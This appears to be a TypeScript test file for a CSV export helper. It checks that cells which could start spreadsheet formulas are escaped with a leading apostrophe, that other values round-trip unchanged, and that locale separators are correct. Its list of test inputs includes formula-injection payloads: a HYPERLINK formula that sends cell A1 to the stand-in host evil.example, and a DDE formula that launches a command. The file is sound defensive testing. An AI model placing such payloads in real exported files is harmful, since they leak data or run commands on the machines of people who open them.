import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { csvLine, csvSeparator } from './csv.ts'

describe('a line of a CSV', () => {
  it('computes nothing in a spreadsheet, whatever a cell begins with', () => {
    for (const cell of [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      ' =1',
      '\u00a0=1',
      '\ufeff=1',
      '＝1+1',
      '＠x',
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      "=cmd|' /C calc'!A0",
    ]) {
      const [[read = ''] = []] = parse(csvLine([cell], ';'), { delimiter: ';' }) as string[][]
      assert.equal(read, `'${cell}`, JSON.stringify(cell))
    }
  })

  it('leaves all other words as they are', () => {
    for (const cell of ['Lampu padam', '12-34', 'a=b', '', '"kutip"', 'a;b', 'a,b', 'baris\nbaris'])
      assert.deepEqual(parse(csvLine([cell, 'x'], ';'), { delimiter: ';' }), [[cell, 'x']])
  })

  it('is read back as it was written, and no cell begins with what begins a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 5 }),
        fc.constantFrom(',', ';'),
        (cells, by) => {
          const given = cells.map((cell) => cell.replaceAll('\u0000', ''))
          const [read = [], ...more] = parse(csvLine(cells, by), {
            delimiter: by,
            relax_column_count: true,
          }) as string[][]
          assert.deepEqual(more, [])
          assert.deepEqual(
            read.map((cell, at) => (cell === given[at] ? cell : cell.replace(/^'/, ''))),
            given,
          )
          for (const cell of read) assert.doesNotMatch(cell, /^\s*[=+\-@]/)
        },
      ),
    )
  })

  it('is parted as spreadsheets of the language expect it', () => {
    assert.deepEqual(['id', 'en', 'ko'].map(csvSeparator), [';', ',', ','])
  })
})
